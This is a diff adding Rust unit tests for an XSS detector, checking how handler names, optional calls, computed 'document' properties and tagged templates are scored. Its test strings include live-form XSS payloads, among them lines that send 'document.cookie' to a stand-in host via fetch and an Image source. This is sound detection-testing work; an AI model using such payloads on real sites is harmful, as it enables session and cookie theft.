@@ -903,3 +903,47 @@ fn analyze_agrees_with_the_reference_around_references() {
         agrees(&rng.joined(&parts, 8));
     }
 }
+
+#[test]
+fn a_handler_name_as_a_json_key_is_data() {
+    let at = |v: &str, field: FieldKind, level: Level| XssDetector.check(&Input { raw: v, decoded: v, field }, level).map_or(0, |h| h.confidence);
+    // A UI builder's or a component's member: strict probe at most.
+    for v in ["onload", "onClick", "onvisibilitychange"] {
+        assert_eq!(at(v, FieldKind::JsonKey, Level::Balanced), 0, "{v}");
+        assert_eq!(at(v, FieldKind::JsonKey, Level::Strict), 45, "{v}");
+        // As a value (the probe lists' form): as before.
+        assert_eq!(at(v, FieldKind::QueryValue, Level::Balanced), 60, "{v}");
+        assert_eq!(at(v, FieldKind::JsonValue, Level::Balanced), 60, "{v}");
+    }
+    // Markup in a key is script wherever it is.
+    for v in ["<img src=x onload=alert(1)>", "\" onload=\"alert(1)"] {
+        assert!(at(v, FieldKind::JsonKey, Level::Balanced) >= 60, "{v}");
+    }
+}
+
+#[test]
+fn calls_without_parentheses_and_computed_properties_are_sinks() {
+    // Written for this rule: optional calls, computed `document` properties, tagged templates.
+    for v in [
+        "alert?.(1)",
+        "x=1;confirm?.(document.domain)//",
+        "\";alert?.(1);//",
+        "x=document['cookie'];",
+        "';fetch('//e.example/?'+document[`cookie`])//",
+        "alert`1`",
+    ] {
+        assert!(conf(v) >= 60, "{v}: {}", conf(v));
+    }
+    // Computed or dotted, the same property.
+    for (a, b) in [
+        ("document[\"cookie\"]", "document.cookie"),
+        ("x=document['domain'];", "x=document.domain;"),
+        ("';new Image().src='//e.example/?'+document[\"cookie\"]//", "';new Image().src='//e.example/?'+document.cookie//"),
+    ] {
+        assert_eq!(conf(a), conf(b), "{a}");
+        assert!(conf(a) > 0, "{a}");
+    }
+    for v in ["user?.name", "document[\"title\"]", "a ?. (b)", "what?.(maybe)", "document['readyState']"] {
+        assert!(conf(v) < 60, "{v}: {}", conf(v));
+    }
+}
